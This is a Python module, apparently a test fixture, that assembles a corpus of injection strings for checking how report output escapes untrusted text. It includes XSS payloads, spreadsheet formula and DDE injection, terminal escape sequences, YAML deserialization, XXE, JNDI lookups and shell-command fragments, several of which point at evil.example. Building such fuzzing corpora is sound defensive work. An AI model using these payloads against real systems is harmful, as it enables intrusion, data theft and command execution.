"""Text that wants to be something else: markup, a formula, a command, a terminal's escape, another text.

Written for what each reader of a report would obey, and completed by every kind of character that there
is. `CORPUS` is what every format is tried with; a string is told by its number.
"""

from __future__ import annotations

import sys
import unicodedata
from collections.abc import Iterator
from itertools import product

_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
)
_TAGS = (
    *(
        "script",
        "SCRIPT",
        "sCrIpT",
        "style",
        "iframe",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "form",
    ),
    *(
        "math",
        "svg",
        "template",
        "noscript",
        "textarea",
        "title",
        "xmp",
        "plaintext",
        "marquee",
        "frameset",
    ),
)
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        "vbscript:",
    ),
    *(
        "data:text/html,",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,",
        "file:///etc/passwd",
    ),
    *(
        "//evil.example/x.js",
        "\\\\evil.example\\share",
        "https://evil.example/?q=",
        "blob:",
        "about:",
    ),
)
_QUOTES = ('"', "'", "`", "&quot;", "&#34;", "&#x27;", "\u201c", "\uff02", '\\"', "\\'", '\x00"')
_BREAKOUTS = (
    *(
        "</script>",
        "</style>",
        "</title>",
        "</textarea>",
        "</svg>",
        "-->",
        "--!>",
        "]]>",
        "?>",
        "%>",
        "}}",
    ),
    *(
        "</td></tr></table>",
        "</details>",
        "</bdi>",
        "</del><ins>",
        "</p>",
        "/*",
        "*/",
        "</html>",
        "<!--",
    ),
)
_FORMULAS = (
    *(
        "=cmd|'/C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
    ),
    *(
        '=HYPERLINK("https://evil.example","x")',
        '=IMPORTXML("https://evil.example","//a")',
        "＝1+1",
        "＋1",
    ),
    *(
        '=WEBSERVICE("https://evil.example")',
        '=DDE("cmd";"/C calc";"x")',
        ";=1+1",
        ",=1+1",
        '"=1+1"',
    ),
    *(
        "'=1+1",
        "''=1+1",
        "－1",
        "＠SUM(1)",
        "=-1",
        "%0A=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u00a0=1+1",
    ),
)
_MARKDOWN = (
    *(
        "# heading",
        "- item",
        "> quote",
        "```\ncode\n```",
        "~~~",
        "| a | b |\n|---|---|",
        "***",
        "---",
        "===",
    ),
    *(
        "[x](javascript:alert(1))",
        "![x](https://evil.example/p.png)",
        "<https://evil.example>",
        "[x]: y",
        "[^1]",
    ),
    *(
        "@everyone",
        "@user",
        "#123",
        "GH-123",
        "user/repo#1",
        "https://evil.example",
        "www.evil.example",
        ":smile:",
    ),
    *(
        "`code`",
        "``a`b``",
        "\\`",
        "**bold**",
        "~~gone~~",
        "$x^2$",
        "$$x$$",
        "<details><summary>x</summary>",
    ),
    *(
        "&lt;b&gt;",
        "&#60;b&#62;",
        "<b>bold</b>",
        "<!-- hidden -->",
        "{{ 7*7 }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
    ),
    *(
        "- [x] done",
        "1. one",
        "    code",
        "\ttab",
        "line  \nbreak",
        "\\\nbreak",
        "```mermaid\ngraph TD\n```",
        "|",
    ),
)
_TERMINAL = (
    *(
        "\x1b[2J",
        "\x1b[31m",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "\x1bc",
        "\x9b31m",
    ),
    *(
        "\x1b[1A\x1b[2K",
        "\x1b[6n",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1bP+q544e\x1b\\",
        "\x1b[?1049h",
        "\x08\x08\x08",
        "\r",
        "\x07",
    ),
    *(
        "\x1b]1337;File=inline=1:AA==\x07",
        "\x1b[20t",
        "\x1b_Gf=100;AAAA\x1b\\",
        "\x0e",
        "\x0f",
        "\x7f",
        "\x1b[999;999H",
        "\x00",
    ),
    *(
        "\x85",
        "\u2028",
        "\u2029",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
        "[red]rich[/red]",
        "[link=https://evil.example]x[/]",
        "[/]",
    ),
)
_DATA = (
    *(
        "!!python/object/apply:os.system ['id']",
        "!!python/name:os.system",
        "&a [*a]",
        "<<: *a",
        "? x : y",
        "%YAML 1.2",
    ),
    *(
        "- !!binary aGk=",
        "yes",
        "no",
        "null",
        "~",
        "1e999",
        "NaN",
        "-.inf",
        "0x1F",
        "2026-11-28",
        "key: value",
        ": ",
        " #x",
    ),
    *(
        "---\nx: y\n---",
        "...",
        "|\n x",
        ">\n x",
        "{a: b}",
        "[a, b]",
        "*alias",
        "&anchor",
        "!tag",
        "@at",
        "`tick",
        "%percent",
    ),
    *(
        '{"__proto__": 1}',
        '"}, {"',
        "\\u0000",
        "\\ud800",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    ),
    *(
        "<?xml version='1.0'?>",
        "<![CDATA[x]]>",
        "]]]]><![CDATA[>",
        "&e;",
        "&#0;",
        "&#xFFFE;",
        "<xi:include href='x'/>",
    ),
    *(
        "../../etc/passwd",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "CON",
        "a\x00b",
        "%2e%2e%2f",
        "file.md\nname",
        "-rf",
        "--help",
    ),
    *(
        "::set-output name=x::y",
        "::error file=x::y",
        "::add-mask::x",
        "##[command]x",
        "::stop-commands::x",
        "%0A::error::x",
    ),
    *(
        "{0}",
        "{0.__class__}",
        "%s%n",
        "${jndi:ldap://evil.example}",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "' OR 1=1 --",
    ),
)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_ODD = (
    *(
        "\u0301" * 200,
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319algo",
        "a\u200bb",
        "\u2800" * 9,
        "\u3164",
    ),
    *(
        "\ud800",
        "\udfff",
        "\udc00\ud800",
        "\ud83d",
        "a\ud800b",
        "\ufffe",
        "\uffff",
        "\U0001fffe",
        "\U0010ffff",
        "\ufeff",
        "\u00ad",
    ),
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1e9\U0001f1ea",
        "\U000e0041\U000e0042",
        "\ufe0f",
        "\U000e0100",
        "\ufdfd" * 9,
    ),
    *(
        "ß" * 9,
        "ﬁ",
        "İ",
        "ı",
        "K",
        "Å",
        "ſ",
        "\u1e9e",
        "㍿",
        "Ⅷ",
        "①",
        "½",
        "²",
        "\u0131\u0307",
        "\u00a0",
        "\u2003",
        "\u3000",
    ),
)


def _markup() -> Iterator[str]:
    yield from (f"<{tag}>alert(1)</{tag}>" for tag in _TAGS)
    yield from (f"<{tag}" for tag in _TAGS)
    yield from (
        f"<{element} {handler}=alert(1)>" for element, handler in product(_ELEMENTS, _HANDLERS)
    )
    yield from (f'<a href="{scheme}alert(1)">x</a>' for scheme in _SCHEMES)
    yield from _SCHEMES
    yield from (f"{quote} onmouseover={quote}alert(1)" for quote in _QUOTES)
    yield from (f"{quote}><script>alert(1)</script>" for quote in _QUOTES)
    yield from (f"{breakout}<script>alert(1)</script>" for breakout in _BREAKOUTS)
    yield from _BREAKOUTS
    yield from (f"x{{background:url({scheme})}}" for scheme in _SCHEMES[:6])
    yield from (
        "<img src=x onerror=alert(1)//",
        "<svg><script href=data:,alert(1) />",
        "＜script＞alert(1)＜/script＞",
    )
    yield from (
        "\u00bcscript\u00bealert(1)",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<scr<script>ipt>alert(1)",
        "+ADw-script+AD4-",
    )


def _planes() -> Iterator[str]:
    """The first, the middle and the last character of every plane, and one of every category."""
    for plane in range(17):
        yield "".join(
            chr(plane * 0x10000 + place) for place in (0x0, 0x41, 0x7FFF, 0xFFFF) if plane or place
        )
    seen: dict[str, str] = {}
    for code in range(sys.maxunicode + 1):
        seen.setdefault(unicodedata.category(chr(code)), chr(code))
    yield from (f"a{character}b" for character in seen.values())
    yield from (f"a{character}b" for character in map(chr, [*range(0x20), *range(0x7F, 0xA0)]))


def _bidi() -> Iterator[str]:
    yield from (f"safe{mark}exe.txt" for mark in _BIDI)
    yield _BIDI * 20
    yield "\u202e" + "</td>" + "\u2066"
    yield "\u05d0\u05d1\u05d2 abc \u0627\u0628"


def _long() -> Iterator[str]:
    yield "a" * 1_000_000
    yield "<script>" * 5_000
    yield "\u202e" * 5_000
    yield "\u0301" * 5_000
    yield "=1+1;" * 5_000
    yield "`" * 5_000
    yield "[" * 5_000
    yield "line\n" * 5_000


CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *("", " ", *_markup(), *_FORMULAS, *_MARKDOWN, *_TERMINAL, *_DATA),
            *(*_bidi(), *_ODD, *_planes(), *_long()),
        )
    )
)
